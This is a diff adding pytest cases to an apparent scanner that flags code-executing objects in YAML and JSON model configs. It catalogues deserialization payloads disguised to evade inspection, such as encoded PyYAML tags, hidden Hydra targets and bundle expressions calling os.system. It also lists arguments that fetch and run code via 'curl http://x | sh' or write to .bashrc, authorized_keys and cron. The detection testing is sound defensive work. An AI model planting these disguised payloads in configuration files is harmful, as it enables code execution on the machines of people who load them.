@@ -320,3 +320,114 @@ SMALL = b"a: 1\nb:\n  _target_: torch.nn.Linear\n  in: 3\n"
 @pytest.mark.parametrize("size", range(1, len(SMALL)))
 def test_truncation_is_survived(size):
     assert inspect_bytes(SMALL[:size], "x.yaml").verdict in {None, "inert", "unproven"}
+
+
+# --- what hides an object from a first look -----------------------------------------------------------------
+
+TARGET = "_target_: os.system\n_args_: [id]\n"
+HIDDEN = {
+    "a tag with a percent sign": "x: !!pyth%6fn/object/apply:os.system [id]\n",
+    "a tag that starts with one": "- !!%70ython/object/apply:os.system [id]\n",
+    "a handle that ends within": "%TAG !a! tag:yaml.org,2002:pyt\n---\nx: !a!hon/object/apply:os.system [id]\n",
+    "a builtin without its module": "!!python/object/apply:eval ['1']\n",
+    "the classic constructor": "!!python/object/new:type\nargs: [z, {}, {extend: !!python/name:exec }]\n",
+    "a first key in another script": "я: 1\n" + TARGET,
+    "a first key with a mark": "$x: 1\n" + TARGET,
+    "a text first": ">\n words\n---\n" + TARGET,
+    "a merge first": "<<: {a: 1}\n" + TARGET,
+    "a line break of its own": "\x85" + TARGET,
+    "a brother called flavors": "flavors:\n  a: {}\nrun_id: x\nx:\n  _target_: os.system\n",
+    "a merged target": "a: &a {_target_: os.system}\nb:\n  <<: *a\n  _args_: [id]\n",
+    "an expression": "imports: ['$import os']\nx: $os.system('id')\n",
+    "an expression alone": 'x: $__import__("os").system("id")\n',
+}
+HIDDEN_JSON = {
+    "beside a notebook's key": {"nbformat": 4, "_target_": "os.system"},
+    "beside a booster's key": {"learner": {}, "_target_": "os.system"},
+    "py/repr": {"py/repr": "os/os.system('id')"},
+    "a bundle": {"imports": ["$import os as o"], "x": "$o.popen('id')", "n": {"_target_": "UNet"}},
+    "a bundle with one text": {"x": "$__import__('os').system('id')"},
+}
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_hidden_objects_are_found(name):
+    assert inspect_bytes(HIDDEN[name].encode(), "config.yaml").verdict == "dangerous"
+
+
+@pytest.mark.parametrize("name", HIDDEN_JSON)
+def test_hidden_objects_in_json_are_found(name):
+    assert inspect_bytes(json.dumps(HIDDEN_JSON[name]).encode(), "config.json").verdict == "dangerous"
+
+
+@pytest.mark.parametrize("name", ["a tag with a percent sign", "a handle that ends within"])
+def test_pyyaml_takes_the_hidden_tag(name):
+    yaml = pytest.importorskip("yaml")
+    tags = [event.tag for event in yaml.parse(HIDDEN[name]) if getattr(event, "tag", None)]
+    assert tags == ["tag:yaml.org,2002:python/object/apply:os.system"]
+
+
+@pytest.mark.parametrize(
+    "tail", [TARGET, "- class_path: a.b\n", "x:\n  class: os.system\n", "x: !!python/name:a.b\n"]
+)
+def test_objects_behind_what_is_parsed_are_reported(tail):
+    text = ("# " + "x" * 98 + "\n") * 45_000 + tail
+    assert inspect_bytes(text.encode(), "config.yaml").verdict == "unproven"
+
+
+def test_large_data_that_only_looks_like_objects_has_no_verdict():
+    text = "".join(f"key{number}:\n  path: /data/os.path/{number}\n" for number in range(60_000))
+    assert inspect_bytes(text.encode(), "data.yaml").verdict is None
+
+
+def test_many_names_are_judged_once():
+    rows = json.dumps([{"type": "os.system", "value": number} for number in range(20_000)]).encode()
+    report = inspect_bytes(rows, "data.json")
+    assert report.verdict == "dangerous"
+    assert len(report.findings) == 1
+
+
+def test_a_bundle_of_usual_expressions_is_inert():
+    bundle = {
+        "imports": ["$import glob", "$import os"],
+        "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
+        "files": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))",
+        "out": "$os.path.join(@bundle_root, 'eval')",
+        "network_def": {"_target_": "UNet", "spatial_dims": 3},
+        "network": "$@network_def.to(@device)",
+        "run": ["$@evaluator.run()", "$("],
+    }
+    assert inspect_bytes(json.dumps(bundle).encode(), "inference.json").verdict == "inert"
+
+
+@pytest.mark.parametrize(
+    ("name", "arguments", "level"),
+    [
+        ("safetensors.torch.save_file", {"filename": "/root/.bashrc"}, "dangerous"),
+        ("logging.FileHandler", {"filename": "/home/x/.ssh/authorized_keys"}, "dangerous"),
+        ("omegaconf.OmegaConf.save", {"f": "/etc/cron.d/x"}, "dangerous"),
+        ("omegaconf.OmegaConf.save", {"f": "x.yaml"}, "unproven"),
+        ("cv2.imwrite", {"filename": "/srv/x.png"}, "unproven"),
+        ("cv2.imwrite", {"filename": "x.png"}, "inert"),
+        ("webdataset.WebDataset", {"urls": "pipe:curl http://x | sh"}, "dangerous"),
+        ("webdataset.WebDataset", {"urls": "data-{000..099}.tar"}, "inert"),
+        ("langchain.utilities.PythonREPL", {}, "dangerous"),
+        ("mlflow.projects.run", {"uri": "https://x"}, "dangerous"),
+        ("mmengine.Config.fromfile", {"filename": "x.py"}, "unproven"),
+        ("evaluate.load", {"path": "someone/metric"}, "unproven"),
+        ("evaluate.load", {"path": "accuracy"}, "inert"),
+        ("gym.make", {"id": "module:Env-v0"}, "unproven"),
+        ("gym.make", {"id": "CartPole-v1"}, "inert"),
+        ("diffusers.DiffusionPipeline.from_pretrained", {"custom_pipeline": "x/y"}, "unproven"),
+        ("nemo.utils.model_utils.import_class_by_path", {"path": "os.system"}, "dangerous"),
+        ("sentence_transformers.util.import_from_string", {"dotted_path": "torch.nn.Linear"}, "inert"),
+        ("enum.bltns.eval", {}, "unproven"),
+        ("zoneinfo.ZoneInfo.from_file", {}, "unproven"),
+        ("datetime.datetime.now", {}, "inert"),
+        ("eval", {}, "dangerous"),
+        ("src.Net", {"weights": "/etc/passwd"}, "dangerous"),
+        ("src.Net", {"weights": "/data/net.pth"}, "note"),
+    ],
+)  # fmt: skip
+def test_what_known_functions_do_depends_on_what_they_are_given(name, arguments, level):
+    assert meaning(name, arguments)[0] == level
